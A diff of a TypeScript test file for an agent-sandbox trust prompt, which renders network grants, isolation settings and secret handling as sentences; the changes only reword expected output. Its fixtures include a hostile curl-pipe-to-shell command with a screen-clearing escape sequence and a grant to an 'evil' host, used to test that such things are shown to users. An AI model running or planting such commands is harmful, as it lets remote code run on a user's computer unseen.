@@ -54,11 +54,11 @@ test('what is seen and what is not, identities and limits, in sentences', () => 
     [
       "  may reach what claude needs of its vendor’s API with an identity of yours: the one for anthropic",
       "  may reach https://api.example.org with GET, POST on /v1/** and by WebSocket with an identity of yours: the variable KEY, in the header x-key",
-      "  may reach https://other.example.org with an identity of yours: the command pass show x, as the password of me and nobody looks for secrets in what leaves",
-      "  may reach https://passed.example.org without anybody looking into TLS",
-      "  may reach tcp://db.example.org:5432 without anybody seeing what is spoken",
+      "  may reach https://other.example.org with an identity of yours: the command pass show x, as the password of me and outgoing data is not scanned for secrets",
+      "  may reach https://passed.example.org (TLS not inspected)",
+      "  may reach tcp://db.example.org:5432 (raw TCP: not inspected)",
       "  may reach the hosts that npm on this computer is configured with for at most 50m of traffic, by GET and HEAD only",
-      "  may reach https://odd.example.org and known secrets may not leave, canaries are blacked out in what leaves, texts like secrets that leave are only noted, what nobody can look into leaves all the same",
+      "  may reach https://odd.example.org and known secrets may not leave, canaries are blacked out in outgoing data, texts like secrets that leave are only noted, data that cannot be decoded may leave",
       "  may reach acme/app on GitHub, and push to it and change its issues, pull requests, files and releases with an identity of yours: the one for github",
       "  may reach acme/* on GitHub",
       "  reaches all that, where nothing else is said, while secrets that leave are only noted",
@@ -78,7 +78,7 @@ test('all that a manifest grants, in sentences', () => {
       "  is isolated by runsc, at least user-kernel",
       "  has at most 2 cpus, 4g of memory",
       "  uses an image built from Dockerfile, which is read at start and not part of what you trust here",
-      "  works in the project itself: what it changes is changed at once",
+      "  works in the project itself: its changes take effect at once",
       "  may reach https://api.example.org",
       "  may reach the hosts that npm on this computer is configured with, by GET and HEAD only",
       "  may reach http://git.corp.example:8080 at 10.1.2.3 with GET on /a/**",
@@ -95,7 +95,7 @@ test('all that a manifest grants, in sentences', () => {
       "  is isolated by runsc, at least user-kernel",
       "  has at most 2 cpus, 4g of memory",
       "  uses an image built from Dockerfile, which is read at start and not part of what you trust here",
-      "  works in the project itself: what it changes is changed at once",
+      "  works in the project itself: its changes take effect at once",
       "  may reach https://api.example.org",
       "  may reach the hosts that npm on this computer is configured with, by GET and HEAD only",
       "  may reach http://git.corp.example:8080 at 10.1.2.3 with GET on /a/**",
@@ -131,7 +131,7 @@ test('what changed: in what is granted, and in the file', () => {
   const question = trustQuestion(manifestOf(after), { status: 'changed', previous: manifestFile(ALL) });
   expect(question).toMatchInlineSnapshot(`
     [
-      "what it grants now and did not before, or no longer:",
+      "changed grants:",
       "agent fixer",
       "  - uses an image built from Dockerfile, which is read at start and not part of what you trust here",
       "  - may reach https://api.example.org",
@@ -141,7 +141,7 @@ test('what changed: in what is granted, and in the file', () => {
       "  - is isolated by runsc, at least user-kernel",
       "  - has at most 2 cpus, 4g of memory",
       "  - uses an image built from Dockerfile, which is read at start and not part of what you trust here",
-      "  - works in the project itself: what it changes is changed at once",
+      "  - works in the project itself: its changes take effect at once",
       "  - may reach https://api.example.org",
       "  - may reach the hosts that npm on this computer is configured with, by GET and HEAD only",
       "  - may reach http://git.corp.example:8080 at 10.1.2.3 with GET on /a/**",
@@ -157,7 +157,7 @@ test('what changed: in what is granted, and in the file', () => {
       "  + runs custom in the bottle web",
       "  + is isolated by runsc, at least user-kernel",
       "  + has at most 2 cpus, 4g of memory",
-      "  + works in the project itself: what it changes is changed at once",
+      "  + works in the project itself: its changes take effect at once",
       "  + may reach https://evil.example.org",
       "  + may reach the hosts that npm on this computer is configured with, by GET and HEAD only",
       "  + may reach http://git.corp.example:8080 at 10.1.2.3 with GET on /a/**",
@@ -170,7 +170,7 @@ test('what changed: in what is granted, and in the file', () => {
       "  + is installed in its bottle by: npm i -g x",
       "  + is the program: x --yes",
       "",
-      "what changed in the file:",
+      "changed lines of the file:",
       "  ...",
       "        runtime: runsc",
       "        min_boundary: user-kernel",
@@ -197,7 +197,7 @@ test('what changed: in what is granted, and in the file', () => {
 test('a change of a comment changes nothing that is granted', () => {
   const trust = { status: 'changed', previous: manifestFile(ALL) } as const;
   expect(trustQuestion(manifestOf(`# hello\n${ALL}`), trust).slice(0, 3)).toEqual([
-    'what it grants now and did not before, or no longer:',
+    'changed grants:',
     '  nothing',
     '',
   ]);
@@ -236,7 +236,7 @@ ${Array.from({ length: agents }, (_, number) => `  many${number}: { bottle: many
   for (const trust of trusts)
     expect(trustQuestion(manifestOf(manifest(300)), trust).slice(-5)).toEqual([
       '',
-      'programs of its own choice that run on this computer, as you:',
+      'programs on this computer that the manifest runs, as you:',
       '  1 of 3: gh auth token',
       String.raw`  2 of 3: sh -c 'curl x|sh # \u{1b}[2J'`,
       '  3 of 3: /opt/pipelock',
@@ -250,7 +250,7 @@ test('a command that could not be seen whole is refused', () => {
   for (const argument of [' '.repeat(800), '\\e'.repeat(300)])
     expect(() => manifestOf(text(argument))).toThrow(
       expect.objectContaining({
-        details: expect.arrayContaining([expect.stringContaining('800 characters at most')]) as string[],
+        details: expect.arrayContaining([expect.stringContaining('at most 800 characters')]) as string[],
       }) as Error,
     );
 });
@@ -293,7 +293,7 @@ test('the question says that a preset of a package client allows GET and HEAD on
   const hosts = '  may reach the hosts that go on this computer is configured with';
   expect(reached('{ preset: go }')).toBe(`${hosts}, by GET and HEAD only`);
   expect(reached('{ preset: go, methods: [POST] }')).toBe(`${hosts} with POST`);
-  expect(reached('{ preset: go, tls: pass }')).toBe(`${hosts} without anybody looking into TLS`);
+  expect(reached('{ preset: go, tls: pass }')).toBe(`${hosts} (TLS not inspected)`);
   expect(reached('{ preset: go }', 'gateway: pipelock,')).toBe(hosts);
   expect(reached('{ preset: claude }')).toBe('  may reach what claude needs of its vendor’s API');
 });
